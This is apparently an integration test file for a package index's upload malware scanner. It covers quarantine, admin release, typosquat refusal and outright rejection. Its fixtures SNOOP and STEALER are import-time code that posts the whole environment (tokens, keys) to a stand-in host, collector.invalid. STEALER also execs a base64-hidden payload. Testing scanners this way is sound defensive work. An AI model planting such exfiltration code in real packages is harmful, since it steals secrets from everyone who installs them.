"""Upload scanning end to end (issue 5), on both databases: a live ``bastion serve``, real twine
and pip, and the operator's ``bastion review`` commands.

- A wheel whose package posts the environment to a web address when imported is
  accepted by twine (the index answers 200: quarantine does not tell an attacker which variant
  was caught), held, not installable with pip, and listed in the review queue with its findings.
  The owner is told by mail. An admin's release makes it installable.
- A benign wheel uploaded next to it is published at once.
- A new project named like a popular one is refused, and twine prints the name it resembles.
- A wheel that also runs a hidden payload scores 10 and is refused outright; twine prints the
  reasons, and nothing is stored.

The malicious-looking wheel is built here; its code is never imported or run (pip installs a
wheel without running it, and the payload only prints).
"""

from __future__ import annotations

import base64
import json
from pathlib import Path

from tests.distbuilder import make_wheel
from tests.integration.conftest import LiveServer, describe, installed, output

PAYLOAD = base64.b64encode(b"print('payload ran')").decode()
# Sends the environment (tokens, keys) to a web address when imported: suspicious enough to hold.
SNOOP = '''import json, os, urllib.request

urllib.request.urlopen("https://collector.invalid/upload", data=json.dumps(dict(os.environ)).encode())
'''
# The same, and it runs a hidden payload: unmistakable, refused outright.
STEALER = f'''import base64, json, os, urllib.request

def _collect():
    secrets = dict(os.environ)
    body = json.dumps(secrets).encode()
    urllib.request.urlopen("https://collector.invalid/upload", data=body)
    exec(base64.b64decode("{PAYLOAD}"))

_collect()
'''


def _wheel_with(directory: Path, name: str, version: str, code: str) -> Path:
    directory.mkdir(parents=True, exist_ok=True)
    module = name.replace("-", "_")
    return make_wheel(directory, name, version, files={f"{module}/__init__.py": code.encode()})


def _plain_wheel(directory: Path, name: str, version: str) -> Path:
    directory.mkdir(parents=True, exist_ok=True)
    module = name.replace("-", "_")
    return make_wheel(directory, name, version, files={f"{module}/__init__.py": b"def hello():\n    return 'hi'\n"})


def test_a_malicious_upload_is_held_until_an_admin_releases_it(live_server: LiveServer, tmp_path: Path) -> None:
    server = live_server
    evil = _wheel_with(tmp_path / "evil", "helpful-utils", "1.0", SNOOP)
    good = _plain_wheel(tmp_path / "good", "helpful-utils", "1.1")
    server.twine_ok([evil])  # quarantine answers 200, as a publish would
    server.twine_ok([good])
    assert server.filenames("helpful-utils") == {good.name}

    pinned = server.pip_install(tmp_path / "t1", "helpful-utils==1.0")
    assert pinned.returncode != 0, describe(pinned)
    assert "No matching distribution found for helpful-utils==1.0" in output(pinned)
    latest = server.pip_install(tmp_path / "t2", "helpful-utils")
    assert latest.returncode == 0, describe(latest)
    assert installed(tmp_path / "t2") == {"helpful-utils": "1.1"}

    listed = server.cli_ok("review", "list", "--json")
    [case] = [json.loads(line) for line in listed.stdout.splitlines() if line.strip()]
    assert (case["project"], case["file"], case["source"], case["state"], case["hidden"]) == (
        "helpful-utils", evil.name, "scan", "open", True)
    assert case["score"] >= 4.0
    shown = server.cli_ok("review", "show", str(case["id"]))
    assert "__init__.py" in shown.stdout and "collector.invalid" in shown.stdout, shown.stdout
    mails = [p.read_text() for p in (server.data_dir / "outbox").glob("*.eml")]
    assert any("held for review" in m and evil.name in m for m in mails), mails

    server.cli_ok("review", "release", str(case["id"]), "--note", "test data, harmless")
    assert server.filenames("helpful-utils") == {evil.name, good.name}
    again = server.pip_install(tmp_path / "t3", "helpful-utils==1.0")
    assert again.returncode == 0, describe(again)
    assert installed(tmp_path / "t3") == {"helpful-utils": "1.0"}
    decided = server.cli_ok("review", "list", "--state", "decided", "--json")
    assert json.loads(decided.stdout.splitlines()[0])["state"] == "released"

    current = server.cli_ok("scan", "--rescan")  # every file was scanned with today's rules
    assert "rescanned 0 files" in current.stdout and "2 already scanned" in current.stdout, current.stdout
    again = server.cli_ok("scan", "--rescan", "--all")  # the released file's hit is on record already
    assert "rescanned 2 files" in again.stdout and "0 new hits" in again.stdout, again.stdout
    misuse = server.cli("scan", "--rescan", str(evil))
    assert misuse.returncode == 2 and "takes no PATH" in misuse.stderr


def test_a_typosquat_name_is_refused_with_the_name_it_resembles(live_server: LiveServer, tmp_path: Path) -> None:
    squat = _plain_wheel(tmp_path / "squat", "reqeusts", "2.0")
    result = live_server.twine_upload([squat])
    assert result.returncode != 0, describe(result)
    text = output(result)
    assert "400" in text and "'requests'" in text and "reqeusts" in text, text
    assert live_server.filenames("reqeusts") == set()
    live_server.cli_ok("names", "allow", "reqeusts", "--reason", "our internal fork, approved")
    live_server.twine_ok([squat])
    assert live_server.filenames("reqeusts") == {squat.name}


def test_an_unmistakable_upload_is_refused_outright(live_server: LiveServer, tmp_path: Path) -> None:
    evil = _wheel_with(tmp_path / "evil", "helpful-tools", "1.0", STEALER)
    result = live_server.twine_upload([evil])
    assert result.returncode != 0, describe(result)
    text = output(result)
    assert "400" in text and "refused by the index's malware scanner" in text and "score 10.0/10" in text, text
    assert live_server.filenames("helpful-tools") == set()
    assert live_server.cli_ok("review", "list", "--json").stdout.strip() == ""
    assert not list((live_server.data_dir / "files").rglob("*.whl"))
